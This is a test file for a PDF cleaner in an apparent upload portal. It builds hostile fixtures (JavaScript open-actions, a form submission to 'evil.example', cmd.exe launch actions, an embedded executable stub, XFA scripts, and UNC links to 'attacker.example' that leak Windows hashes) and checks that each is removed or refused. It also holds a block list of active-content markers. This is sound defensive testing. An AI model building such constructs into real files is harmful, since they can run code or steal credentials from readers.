"""Cleaning uploaded PDFs: each kind of active content a hostile file carries
is removed (or the file refused), and an ordinary PDF still reads the same."""

from __future__ import annotations

import time
from collections.abc import Callable
from pathlib import Path

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from prize_portal.files.pdfs import REFUSALS, PdfRefusedError, clean_pdf
from tests.services import pdf_text

# Bytes that no cleaned file may still hold, whatever the hostile file was.
ACTIVE_MARKERS = (
    b"/JavaScript",
    b"/JS",
    b"/Launch",
    b"cmd.exe",
    b"/EmbeddedFiles",
    b"/EF",
    b"/XFA",
    b"/AA",
    b"MZ\x90",
    b"javascript:",
    b"attacker.example",
)


def _one_page() -> pikepdf.Pdf:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    return pdf


def _with_open_script() -> pikepdf.Pdf:
    pdf = _one_page()
    pdf.Root.OpenAction = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert('opened')")))
    return pdf


def _with_document_script() -> pikepdf.Pdf:
    pdf = _one_page()
    script = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("this.submitForm('https://evil.example')")))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), script])))
    return pdf


def _with_launch() -> pikepdf.Pdf:
    pdf = _one_page()
    launch = Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe"), P=String("/c calc")))
    page = pdf.pages[0].obj
    page.AA = Dictionary(O=launch)  # when the page opens
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 100, 100]), A=launch)
    page.Annots = Array([pdf.make_indirect(link)])
    return pdf


def _with_embedded_file() -> pikepdf.Pdf:
    pdf = _one_page()
    program = pdf.make_stream(b"MZ\x90\x00" + b"\x00" * 64)
    spec = pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("setup.exe"), EF=Dictionary(F=program)))
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("setup.exe"), spec])))
    pin = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 20, 20]), FS=spec)
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(pin)])
    return pdf


def _with_xfa() -> pikepdf.Pdf:
    pdf = _one_page()
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp:xdp><script>evil()</script></xdp:xdp>"))
    return pdf


def _with_stream_action() -> pikepdf.Pdf:
    """Readers take a stream wherever a dictionary is expected: an action written as one."""
    pdf = _one_page()
    action = pdf.make_stream(b"")
    action.S, action.F = Name.Launch, String("cmd.exe")
    pdf.Root.OpenAction = action
    return pdf


def _with_stream_form() -> pikepdf.Pdf:
    pdf = _one_page()
    form = pdf.make_stream(b"")
    form.Fields, form.XFA = Array([]), pdf.make_stream(b"<xdp:xdp><script>app.alert(1)</script></xdp:xdp>")
    pdf.Root.AcroForm = form
    return pdf


def _with_hostile_links() -> pikepdf.Pdf:
    pdf = _one_page()
    links = [
        Dictionary(S=Name.URI, URI=String("javascript:app.alert(1)")),
        Dictionary(S=Name.URI, URI=String("\\\\attacker.example\\share\\x")),  # leaks the Windows login hash
        Dictionary(S=Name.Thread, F=String("\\\\attacker.example\\t.pdf")),
    ]
    pdf.pages[0].obj.Annots = Array(
        [
            pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=a))
            for a in links
        ]
    )
    return pdf


HOSTILE: dict[str, tuple[Callable[[], pikepdf.Pdf], list[str]]] = {
    "action written as a stream": (_with_stream_action, ["launch"]),
    "form written as a stream": (_with_stream_form, ["xfa"]),
    "javascript: and file-share links": (_with_hostile_links, ["external_files", "scripts"]),
    "open-action script": (_with_open_script, ["scripts"]),
    "document-level script": (_with_document_script, ["scripts"]),
    "launch action": (_with_launch, ["launch"]),
    "embedded executable": (_with_embedded_file, ["embedded_files"]),
    "XFA form": (_with_xfa, ["xfa"]),
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_active_content_is_removed_and_reported(tmp_path: Path, kind: str) -> None:
    build, removed = HOSTILE[kind]
    source, target = tmp_path / "upload.pdf", tmp_path / "clean.pdf"
    build().save(source)

    cleaned = clean_pdf(source, target)

    assert cleaned.removed == removed
    assert cleaned.pages == 1
    content = target.read_bytes()
    assert [marker for marker in ACTIVE_MARKERS if marker in content] == []
    with pikepdf.open(target) as reopened:  # still a valid PDF with its page
        assert len(reopened.pages) == 1


def test_a_page_link_and_a_web_link_stay(tmp_path: Path) -> None:
    pdf = _one_page()
    pdf.add_blank_page()
    go_to = Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit]))
    web = Dictionary(S=Name.URI, URI=String("https://www.seoul.go.kr/"))
    pdf.pages[0].obj.Annots = Array(
        [
            pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=go_to)),
            pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([9, 9, 19, 19]), A=web)),
        ]
    )
    pdf.save(tmp_path / "upload.pdf")

    cleaned = clean_pdf(tmp_path / "upload.pdf", tmp_path / "clean.pdf")

    assert cleaned.removed == []
    with pikepdf.open(tmp_path / "clean.pdf") as reopened:
        actions = [str(link.A.S) for link in reopened.pages[0].obj.Annots]
        assert actions == ["/GoTo", "/URI"]


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"%PDF-1.7\n<html><body><script>alert(document.cookie)</script></body></html>\n%%EOF\n", "not_pdf"),
        (b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n", "not_pdf"),
    ],
    ids=["html wrapped as PDF", "catalogue without pages"],
)
def test_what_is_not_really_a_pdf_is_refused(tmp_path: Path, content: bytes, code: str) -> None:
    (tmp_path / "upload.pdf").write_bytes(content)
    with pytest.raises(PdfRefusedError) as refused:
        clean_pdf(tmp_path / "upload.pdf", tmp_path / "clean.pdf")
    assert refused.value.code == code
    assert not (tmp_path / "clean.pdf").exists()


def test_a_dynamic_xfa_form_is_refused(tmp_path: Path) -> None:
    pdf = _with_xfa()
    pdf.Root.NeedsRendering = True  # its page only says "please wait": the form is the document
    pdf.save(tmp_path / "upload.pdf")
    with pytest.raises(PdfRefusedError) as refused:
        clean_pdf(tmp_path / "upload.pdf", tmp_path / "clean.pdf")
    assert refused.value.code == "xfa_only"


def test_a_password_protected_pdf_is_refused(tmp_path: Path) -> None:
    _one_page().save(tmp_path / "upload.pdf", encryption=pikepdf.Encryption(user="secret", owner="secret"))
    with pytest.raises(PdfRefusedError) as refused:
        clean_pdf(tmp_path / "upload.pdf", tmp_path / "clean.pdf")
    assert refused.value.code == "encrypted"


def test_every_refusal_has_a_message() -> None:
    for code in ("not_pdf", "encrypted", "no_pages", "xfa_only", "too_complex"):
        assert str(REFUSALS[code])


def test_an_ordinary_pdf_reads_the_same_after_cleaning(tmp_path: Path) -> None:
    """A report as applicants make them (WeasyPrint stands in for a word
    processor: fonts, text in three scripts, a web link)."""
    from weasyprint import HTML

    html = (
        "<h1>Digital companions</h1><p>어르신 디지털 동행 — 高齢者のデジタル支援</p>"
        '<p><a href="https://www.seoul.go.kr/">Seoul</a></p>'
    )
    original = HTML(string=html).write_pdf()
    assert original is not None
    (tmp_path / "upload.pdf").write_bytes(original)

    cleaned = clean_pdf(tmp_path / "upload.pdf", tmp_path / "clean.pdf")

    assert cleaned.removed == []
    text = pdf_text((tmp_path / "clean.pdf").read_bytes())
    assert text == pdf_text(original)
    assert "Digital companions" in text
    assert "어르신 디지털 동행" in text


def test_an_annotation_list_shared_by_thousands_of_pages_is_cleaned_once(tmp_path: Path) -> None:
    """One indirect /Annots array referred to by 3,000 dictionaries: filtered
    in place once, not copied for each (which took 22 s and wrote 81 MB)."""
    pdf = _one_page()
    attached = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 1, 1])))
    note = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Text, Rect=Array([0, 0, 1, 1])))
    shared = pdf.make_indirect(Array([note] * 2999 + [attached]))
    pdf.Root.Extra = Array([pdf.make_indirect(Dictionary(Annots=shared)) for _ in range(3000)])
    pdf.save(tmp_path / "upload.pdf")
    started = time.monotonic()

    cleaned = clean_pdf(tmp_path / "upload.pdf", tmp_path / "clean.pdf")

    assert time.monotonic() - started < 5
    assert cleaned.removed == ["embedded_files"]
    assert (tmp_path / "clean.pdf").stat().st_size < 2 * (tmp_path / "upload.pdf").stat().st_size


def test_a_file_of_too_many_objects_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("prize_portal.files.pdfs.MAX_OBJECTS", 50)
    pdf = _one_page()
    pdf.Root.Extra = Array([pdf.make_indirect(Dictionary(N=number)) for number in range(60)])
    pdf.save(tmp_path / "upload.pdf")
    with pytest.raises(PdfRefusedError) as refused:
        clean_pdf(tmp_path / "upload.pdf", tmp_path / "clean.pdf")
    assert refused.value.code == "too_complex"
